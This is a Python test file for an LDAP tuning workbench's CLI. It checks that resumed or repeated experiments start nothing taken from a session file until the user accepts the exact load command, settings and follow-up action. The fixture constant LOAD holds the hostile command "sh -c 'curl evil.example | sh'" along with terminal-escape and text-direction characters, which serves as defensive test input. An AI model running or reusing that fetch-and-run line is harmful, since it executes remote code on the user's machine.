"""`experiment --resume` takes nothing over from a file that nobody has read and agreed to."""

import re
import sys
from contextlib import contextmanager
from dataclasses import replace

import numpy as np
import pytest

from ldap_workbench.cli import experiment, main, resuming
from ldap_workbench.experiment.origin import Origin
from ldap_workbench.inference.significance.paired import pairs_asked_for, takes
from ldap_workbench.model.experiment import Design, Experiment, State, Step, Then
from ldap_workbench.model.knob import Setting, Treatment
from ldap_workbench.model.verdict import Settling
from ldap_workbench.session.reader import Session
from ldap_workbench.session.writer import SessionWriter
from tests import sessions
from tests.unit.tuning.fakes import FACTS, FakeTarget

LOAD = "sh -c 'curl evil.example | sh' \x1b[2J\u202e --user x" + " a" * 400
SET = "nsslapd-idlistscanlimit=8000"
HERE = replace(FACTS, identity="389ds:here")


@pytest.fixture
def begun(monkeypatch, tmp_path):
    """Runs that were begun: (plan, whether from a file); the server is a fake."""
    runs = []

    @contextmanager
    def connected(name):
        target = FakeTarget(facts=HERE)
        yield target

    def run(target, tuner, plan, output, stored, lag):
        runs.append(plan)
        begun = stored or Experiment(1, plan, State.PLANNED, step=0)
        return replace(begun, state=State.REVERTED), None

    monkeypatch.setenv("LDAP_WORKBENCH_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(experiment, "connected", connected)
    monkeypatch.setattr(experiment, "_run", run)
    return runs


@pytest.fixture(scope="module")
def interrupted(tmp_path_factory):
    """The experiment of the session that every test begins with, read once."""
    path = tmp_path_factory.mktemp("interrupted") / "s.ldapwb"
    sessions.build_experiment_session(path, seconds=2, per_second=10, judged=False)
    with Session.open(path) as session:
        [found] = session.experiments()
    return found


@pytest.fixture
def stored(tmp_path, interrupted):
    """A session of an experiment that was interrupted, with a plan that somebody has changed."""

    def make(facts=HERE, *, step=None, done=None, **changes):
        path = sessions.build_experiment_session(
            tmp_path / "s.ldapwb", seconds=2, per_second=10, judged=False
        )
        treatment = Treatment((Setting("nsslapd-idlistscanlimit", "8000"),))
        plan = replace(interrupted.plan, **{"treatment": treatment, "load": LOAD, **changes})
        with SessionWriter.append(path) as writer:
            writer.set_facts(facts)
            left = interrupted.step if step is None else step
            windows = interrupted.windows[:done]
            left = left if done is None else done
            writer.put_experiment(replace(interrupted, plan=plan, step=left, windows=windows))
        return path

    return make


@pytest.fixture
def resume(begun, monkeypatch, capsys):
    def run(path, *words, yes=("--yes",)):
        argv = ["ldap-workbench", "experiment", "fake", "-o", str(path), "--resume", *words, *yes]
        monkeypatch.setattr(sys, "argv", argv)
        with pytest.raises(SystemExit) as ended:
            main()
        return ended.value.code or 0, capsys.readouterr().err

    return run


@pytest.mark.parametrize("words", [(), ("--yes",), ("--yes", "--set", SET)])
def test_without_a_terminal_nothing_from_the_file_runs(resume, begun, stored, words):
    status, err = resume(stored(then=Then.KEEP), *words, yes=())
    assert status == 2
    assert begun == []
    assert "comes from the file" in err
    told = next(line for line in err.splitlines() if "It runs on this machine" in line)
    assert told.endswith(LOAD.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")), "in full"
    assert "It sets: nsslapd-idlistscanlimit=8000" in err
    assert "Afterwards: keep." in err
    assert "windows of 2 s" in err
    assert "rests on: p50" in err


def test_a_plan_that_is_quoted_starts_nothing_by_itself(resume, begun, stored):
    words = ("--accept-load", LOAD, "--set", SET, "--then", "keep")
    status, err = resume(stored(then=Then.KEEP), *words, yes=())
    assert (status, begun) == (2, [])
    assert "The experiment was not started." in err
    assert "add --yes" in err


def test_the_question_begins_with_the_restarts_that_are_left(resume, begun, stored):
    setting = "nsslapd-threadnumber=24"
    path = stored(treatment=Treatment((Setting(*setting.split("=")),)), restart=True, done=3)
    with Session.open(path) as session:
        [found] = session.experiments()
    left = len(found.plan.steps) - found.step
    assert left > 0
    words = ("--accept-load", LOAD, "--set", setting)
    status, err = resume(path, *words, yes=())
    assert (status, begun) == (2, []), err
    told = [line for line in err.splitlines() if line.startswith("This restarts the server")]
    assert re.fullmatch(
        rf"This restarts the server \S+ {left} times: about \S+ (s|min|h) without service in all, "
        r"until about (\d{4}-\d\d-\d\d )?\d\d:\d\d \(local time\)\.",
        " ".join(told),
    ), err
    begin = err.index("This restarts")
    assert begin < err.index("Treatment: "), "before all else that is asked about"


def test_what_is_quoted_is_accepted(resume, begun, stored):
    words = ("--accept-load", LOAD, "--set", SET, "--then", "keep")
    status, err = resume(stored(then=Then.KEEP), *words)
    assert status == 0, err
    assert [plan.load for plan in begun] == [LOAD]


@pytest.mark.parametrize(
    "words",
    [
        ("--accept-load", "true", "--set", SET, "--then", "keep"),
        ("--accept-load", LOAD, "--set", "nsslapd-idlistscanlimit=9000", "--then", "keep"),
        ("--accept-load", LOAD, "--set", SET, "--then", "revert"),
        ("--accept-load", LOAD, "--set", SET),
        ("--set", SET, "--then", "keep"),
    ],
)
def test_what_is_quoted_wrongly_is_not(resume, begun, stored, words):
    status, err = resume(stored(then=Then.KEEP), *words)
    assert status == 2
    assert begun == []
    assert "--accept-load" in err


def test_a_dropped_page_cache_is_quoted_as_well(resume, begun, stored):
    path, words = stored(cold=True), ("--accept-load", LOAD, "--set", SET)
    status, err = resume(path, *words)
    assert (status, begun) == (2, [])
    assert "It drops the page cache" in err
    assert "--cold" in err
    status, err = resume(path, *words, "--cold")
    assert status == 0, err
    assert [plan.cold for plan in begun] == [True]


@pytest.mark.parametrize("answers", [(True, True), (True, False), (False, True)])
def test_at_a_terminal_command_and_plan_are_asked_for_apart(
    resume, begun, stored, monkeypatch, answers
):
    asked = []

    def confirm(question):
        asked.append(question)
        return answers[len(asked) - 1]

    monkeypatch.setattr(resuming, "confirm", confirm)
    status, _ = resume(stored())
    assert asked[0] == "Run this command from the file?"
    assert bool(begun) == all(answers)
    assert status == (0 if all(answers) else 2)


def test_a_file_of_another_server_is_refused(resume, begun, stored):
    path = stored(replace(HERE, identity="389ds:there", host="there.example"))
    status, err = resume(path, "--accept-load", LOAD, "--set", SET)
    assert (status, begun) == (1, [])
    assert "another server: fake (there.example), not fake (" in err


def test_a_file_that_names_no_server_is_a_strangers(resume, begun, stored):
    path = stored(replace(HERE, identity=""))
    assert "do not trust" in resume(path)[1]
    assert resume(path, "--accept-load", LOAD, "--set", SET)[0] == 0


def test_a_file_restarts_no_server_that_needs_no_restart(resume, begun, stored):
    status, err = resume(stored(restart=True), "--accept-load", LOAD, "--set", SET)
    assert (status, begun) == (1, [])
    assert "does not need that" in err


MORE_PLANS = [
    {"window_s": 0.0},
    {"settle_s": -1.0},
    {"patience_s": -1.0},
    {"restart_wait_s": -1.0},
    {"repeats": -1},
    {"steps": ()},
    {"step": -1},
]
"""Further numbers that are too small, and further steps: one of each kind is in every run."""


@pytest.mark.parametrize(
    "changes",
    [
        {"window_s": -20.0},
        {"level": 2.0},
        {"guards": {"p99_ns": -1.0}},
        {"steps": (Step("A", 0), Step("C", 0))},
        {"steps": (Step("A", 0), Step("A", 1), Step("B", 0), Step("B", 1))},
        {"step": 99},
        *(pytest.param(each, marks=pytest.mark.full) for each in MORE_PLANS),
    ],
)
def test_a_plan_that_no_workbench_makes_is_refused(resume, begun, stored, changes):
    path = stored(then=Then.KEEP, **changes)
    status, said = resume(path, "--accept-load", LOAD, "--set", SET, "--then", "keep")
    assert (status, begun) == (1, [])
    assert "was not made by a workbench" in said
    assert "Nothing of it was used." in said


@pytest.fixture
def open_question(tmp_path):
    """A session whose verdict asks for more pairs, and the number it asks for."""
    path = sessions.build_experiment_session(tmp_path / "first.ldapwb", seconds=2, per_second=10)
    line = takes(np.array([0.3, -0.1, 0.25, 0.05, -0.2, 0.35]), 0.05)
    with Session.open(path) as session:
        [found] = session.experiments()
    treatment = Treatment((Setting("nsslapd-idlistscanlimit", "8000"),))
    primary = replace(found.verdict.primary, verdict="inconclusive", takes=line)
    verdict = replace(found.verdict, primary=primary)
    plan = replace(found.plan, treatment=treatment, load=LOAD)
    with SessionWriter.append(path) as writer:
        writer.set_facts(HERE)
        writer.put_experiment(
            replace(found, plan=plan, verdict=verdict, state=State.REVERTED, step=12)
        )
    return path, pairs_asked_for(line, "p50")


@pytest.fixture
def again(begun, monkeypatch, capsys, tmp_path):
    def run(path, *words):
        argv = ["ldap-workbench", "experiment", "fake", "-o", str(tmp_path / "new.ldapwb")]
        monkeypatch.setattr(sys, "argv", [*argv, "--again", str(path), "--yes", *words])
        with pytest.raises(SystemExit) as ended:
            main()
        return ended.value.code or 0, capsys.readouterr().err

    return run


@pytest.mark.parametrize("words", [(), ("--pairs", "9")])
def test_more_pairs_follow_the_plan_in_the_file_in_an_order_of_their_own(
    again, begun, open_question, words
):
    path, asked_for = open_question
    quoted = ("--accept-load", LOAD, "--set", SET, "--seed", "77")
    status, err = again(path, *quoted, *words)
    assert status == 0, err
    [plan] = begun
    assert plan.design == Design("pairs", 9 if words else asked_for)
    assert (plan.seed, plan.load, plan.window_s, plan.primary) == (77, LOAD, 2.0, "p50")
    assert "Measured before in first.ldapwb, 6 pairs: Inconclusive" in str(plan.earlier[0])
    assert f"Its verdict also says: {plan.earlier[0]}" in err


def test_more_pairs_of_a_file_are_agreed_to_as_a_resumed_plan_is(again, begun, open_question):
    status, err = again(open_question[0])
    assert (status, begun) == (2, [])
    assert "It runs on this machine, in every window:" in err
    assert "--accept-load" in err


def test_an_answered_question_wants_no_more_pairs(again, begun, tmp_path):
    path = sessions.build_experiment_session(tmp_path / "first.ldapwb", seconds=2, per_second=10)
    with SessionWriter.append(path) as writer:
        writer.set_facts(HERE)
    status, err = again(path)
    assert (status, begun) == (2, [])
    assert "would not answer its question" in err


def test_what_had_not_settled_is_measured_again_with_a_longer_wait(again, begun, open_question):
    path, _ = open_question
    with Session.open(path) as session:
        [experiment] = session.experiments()
    verdict = replace(
        experiment.verdict,
        primary=replace(experiment.verdict.primary, verdict="not settled"),
        details=replace(
            experiment.verdict.details,
            settling=Settling(2.0, 0.9, 0.01, wait_s=180.0, trim_s=15.0),
        ),
    )
    with SessionWriter.append(path) as writer:
        writer.put_experiment(replace(experiment, verdict=verdict))
    status, err = again(path)
    assert (status, begun) == (2, [])
    assert "would not answer its question" in err
    assert "run it again with --settle 180 --trim 15." in err


def test_more_pairs_are_for_what_is_open_by_the_rules_of_today(again, begun, open_question):
    path, _ = open_question
    with Session.open(path) as session:
        [experiment] = session.experiments()
    with SessionWriter.append(path) as writer:
        earlier = replace(experiment.verdict, rules=0)
        writer.put_experiment(replace(experiment, verdict=earlier))
    status, err = again(path)
    assert (status, begun) == (2, [])
    assert "would not answer its question: not enough data." in err


def test_more_pairs_need_a_verdict(again, begun, stored):
    status, err = again(stored())
    assert (status, begun) == (2, [])
    assert "holds no experiment with a verdict" in err


def test_a_number_of_pairs_belongs_to_more_pairs(resume, begun, stored):
    status, err = resume(stored(), "--pairs", "9")
    assert (status, begun) == (2, [])
    assert "--pairs goes with --again" in err


def test_a_plan_is_told_whole_with_where_it_runs_and_what_restarts(tmp_path):
    plan = sessions._plan(sessions.np.random.default_rng(1), 6, 20, 1)
    plan = replace(plan, load=LOAD, load_on_host=True, restart=True, looks=(6,), cold=True)
    origin = Origin(tmp_path / "a\nb", HERE, plan)
    lines = origin.describe(plan, HERE, "systemctl restart \x07dirsrv")
    told = "\n".join(f"{words} {named}" for words, named in lines)
    assert "a\\x0ab" in told
    assert "on the server's host, in every window: sh -c" in told
    assert "systemctl restart \\x07dirsrv" in told
    assert "It stops if errors exceed 1 %." in told
    assert "after 6 pairs" in told
    assert "It waits 120 s at most" in told
    assert "300 s after a restart" in told
    assert "drops the page cache of the server's host before every window" in told
